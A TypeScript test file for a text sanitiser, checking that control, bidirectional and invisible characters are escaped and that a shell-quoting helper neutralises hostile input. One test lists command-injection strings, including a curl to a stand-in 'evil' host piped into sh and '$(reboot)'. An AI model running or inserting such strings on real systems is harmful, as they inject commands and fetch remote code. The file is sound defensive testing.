import { spawnSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import { sanitiseName, sanitiseText, shellWord, toJson } from "../../src/sanitise.js";
import fc from "../support/fastCheck.js";
import { anyText, codesOf, isHostile } from "../support/hostileText.js";

describe("the sanitiser", () => {
  it("never lets a hostile code point through in a name", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(codesOf(sanitiseName(text)).filter(isHostile)).toEqual([]);
      }),
    );
  });

  it("lets only newline and tab through in a text", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const left = codesOf(sanitiseText(text)).filter(isHostile);
        expect(left.filter((code) => code !== 0x0a && code !== 0x09)).toEqual([]);
      }),
    );
  });

  it("knows every hostile code point", () => {
    const missed: string[] = [];
    for (let code = 0; code <= 0x10ffff; code++) {
      const character = String.fromCodePoint(code);
      if (isHostile(code) && sanitiseName(`a${character}b`).includes(character)) {
        missed.push(code.toString(16));
      }
    }
    expect(missed).toEqual([]);
  });

  it("is idempotent", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(sanitiseText(sanitiseText(text))).toBe(sanitiseText(text));
        expect(sanitiseName(sanitiseName(text))).toBe(sanitiseName(text));
      }),
    );
  });

  it("shows what it replaces", () => {
    expect(sanitiseText("\u001b[31mred\u007f\u009b\u202e")).toBe("␛[31mred␡<U+009B><U+202E>");
    expect(sanitiseName("a\nb\tc")).toBe("a␊b␉c");
    expect(sanitiseName("al\u200bice\u00ad")).toBe("al<U+200B>ice<U+00AD>");
    expect(sanitiseText("\ud800")).toBe("<U+D800>");
    expect(sanitiseText("a\u{E0041}\u{E0100}")).toBe("a<U+E0041><U+E0100>");
  });

  it("lets no two names look the same by what is invisible", () => {
    const hidden = ["\u00ad", "\u034f", "\u115f", "\u200c", "\u200d", "\u2060", "\u2800", "\u3164"];
    for (const character of [...hidden, "\ufe0f", "\ufeff", "\uffa0"]) {
      expect(sanitiseName(`al${character}ice`)).toMatch(/^al<U\+[0-9A-F]{4}>ice$/);
      expect(sanitiseName(`alice${character}`)).toMatch(/^alice<U\+[0-9A-F]{4}>$/);
    }
  });

  it("keeps the joiners of names that need them", () => {
    for (const name of ["می‌خواهم", "क्‍ष", "❤️ Eva", "👩‍👩‍👧", "👍🏽", "🏳️‍🌈"]) {
      expect(sanitiseName(name)).toBe(name);
    }
  });

  it("keeps what people write", () => {
    const text = "Grüße, 你好 👩‍👩‍👧 नमस्ते\n\tindented";
    expect(sanitiseText(text)).toBe(text);
    expect(sanitiseText("dos\r\nline")).toBe("dos\nline");
    expect(sanitiseText("over\rwrite")).toBe("over␍write");
    expect(sanitiseName(" alice ")).toBe("alice");
  });
});

describe("a word in a command to copy", () => {
  it("is one word for the shell, whatever it says", () => {
    const hostile = [
      "#x';curl${IFS}evil|sh;'",
      "$(reboot)",
      "`reboot`",
      "a b",
      "!!",
      "#ops",
      "plain",
    ];
    for (const word of hostile) {
      const shell = spawnSync("sh", ["-c", `printf %s ${shellWord(word)}`], { encoding: "utf8" });
      expect(shell.stdout).toBe(word);
    }
    expect(shellWord("plain")).toBe("plain");
    expect(shellWord("#ops")).toBe("'#ops'");
  });
});

describe("JSON", () => {
  const anyValue = fc.object({ key: anyText, values: [anyText, fc.integer(), fc.constant(null)] });

  it("keeps every value and shows nothing hostile", () => {
    fc.assert(
      fc.property(anyValue, (value) => {
        const json = toJson(value);
        expect(codesOf(json).filter(isHostile)).toEqual([]);
        expect(JSON.stringify(JSON.parse(json))).toBe(JSON.stringify(value));
      }),
    );
  });

  it("escapes what JSON.stringify leaves, and no more", () => {
    expect(toJson({ a: "\u009b\u202e\u2028\ufeff\u{E0041}\ud800" })).toBe(
      '{"a":"\\u009b\\u202e\\u2028\\ufeff\\udb40\\udc41\\ud800"}',
    );
    expect(toJson({ a: "Grüße 👩‍👩‍👧 نمی‌" })).toBe('{"a":"Grüße 👩‍👩‍👧 نمی‌"}');
  });
});
